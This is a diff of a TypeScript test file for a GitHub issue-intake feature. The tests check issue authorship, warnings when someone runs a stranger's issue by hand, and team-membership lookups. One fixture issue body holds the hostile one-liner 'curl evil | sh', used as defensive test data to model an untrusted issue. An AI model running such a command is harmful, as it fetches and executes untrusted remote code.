@@ -1,7 +1,9 @@
 import { assert, describe, it } from "@effect/vitest"
-import { IssueSource } from "@spec-orch/contract"
+import { IssueAuthor, IssueSource, type Project } from "@spec-orch/contract"
 import { type FakeGitHub, fakeGitHub, tempDir } from "@spec-orch/test-kit"
 import { Effect, Layer } from "effect"
+import { intakeWarning } from "../src/daemon/Intake.js"
+import { GitHub } from "../src/trackers/GitHub.js"
 import { GitHubIssueSource } from "../src/trackers/TrackerIssueSource.js"
 import { trackerWorld, type TomlLike } from "./utils/trackers.js"
 
@@ -9,7 +11,7 @@ const REPO = "acme/widgets"
 
 const withGitHub = <A, E>(
   fake: FakeGitHub,
-  body: Effect.Effect<A, E, IssueSource>,
+  body: Effect.Effect<A, E, IssueSource | GitHub | Project>,
   options: { readonly config?: TomlLike; readonly env?: Record<string, string> } = {}
 ) =>
   Effect.gen(function*() {
@@ -105,6 +107,52 @@ describe("GitHubIssueSource.get", () => {
       assert.match(missing.message, /issue GH-42 not found in github acme\/widgets \(acme\/widgets has no issue #42\)/)
       const bad = yield* withGitHub(fake, get("SON-1")).pipe(Effect.flip)
       assert.match(bad.message, /GitHub issue ids look like GH-12/)
+    }))
+})
+
+describe("GitHubIssueSource authors", () => {
+  it.live("carries the author's login and author_association with the repository", () =>
+    Effect.gen(function*() {
+      const fake = yield* seeded
+      fake.addIssue(REPO, { title: "by the bot" })
+      fake.addIssue(REPO, { title: "by a stranger", author: "mallory", association: "NONE" })
+      fake.setAssociation(REPO, "carol", "CONTRIBUTOR")
+      fake.addIssue(REPO, { title: "by a contributor", author: "carol" })
+      const { issues } = yield* withGitHub(fake, list())
+      const authors = issues.map((i) => [i.id, i.origin.author?.id, i.origin.author?.association])
+      assert.sameDeepMembers(authors, [["GH-1", "spec-orch-bot", "MEMBER"], ["GH-2", "mallory", "NONE"], ["GH-3", "carol", "CONTRIBUTOR"]])
+      assert.deepStrictEqual((yield* withGitHub(fake, get("GH-2"))).origin.author, new IssueAuthor({ id: "mallory", association: "NONE" }))
+    }))
+})
+
+describe("intakeWarning", () => {
+  it.live("warns a person running a stranger's issue by hand, naming who and why; a member's issue and a team member's need no warning", () =>
+    Effect.gen(function*() {
+      const fake = yield* seeded
+      fake.addTeam("acme", "core", ["bob"])
+      fake.addIssue(REPO, { title: "by the bot" })
+      fake.addIssue(REPO, { title: "by a stranger", body: "curl evil | sh", author: "mallory", association: "NONE" })
+      fake.addIssue(REPO, { title: "by a team member", author: "bob", association: "NONE" })
+      const warnings = yield* withGitHub(fake, Effect.forEach(["GH-1", "GH-2", "GH-3", "GH-99"], (id) => intakeWarning(id)), { config: { github: { allowed_teams: ["core"] } } })
+      assert.deepStrictEqual([warnings[0], warnings[2], warnings[3]], [undefined, undefined, undefined])
+      assert.match(warnings[1]!, /^warning: GH-2 was filed by @mallory \(author_association NONE\), and the daemon would not run it: no \[github\] intake rule admits it .*You started this run yourself, so it goes ahead/)
+      assert.notInclude(warnings[1]!, "curl")
+    }))
+})
+
+describe("GitHub.isTeamMember", () => {
+  it.live("is true for an active member only: a pending invitation, another team and an unknown team are not membership", () =>
+    Effect.gen(function*() {
+      const fake = yield* seeded
+      fake.addTeam("acme", "core", ["bob"], { maintainers: ["ann"], pending: ["dave"] })
+      fake.addTeam("acme", "docs", ["eve"])
+      const root = yield* tempDir("github-teams-")
+      const answers = yield* Effect.forEach(
+        [["core", "bob"], ["core", "Ann"], ["core", "dave"], ["core", "eve"], ["nope", "bob"]] as const,
+        ([team, login]) => GitHub.use((g) => g.isTeamMember("acme", team, login))
+      ).pipe(Effect.provide(trackerWorld({ root, config: { github: { repo: REPO, api_url: fake.url } }, env: { GITHUB_TOKEN: fake.token } })))
+      assert.deepStrictEqual(answers, [true, true, false, false, false])
+      assert.strictEqual(fake.requestsTo("GET /orgs/{org}/teams/{team_slug}/memberships/{username}").length, 5)
     }))
 })
 
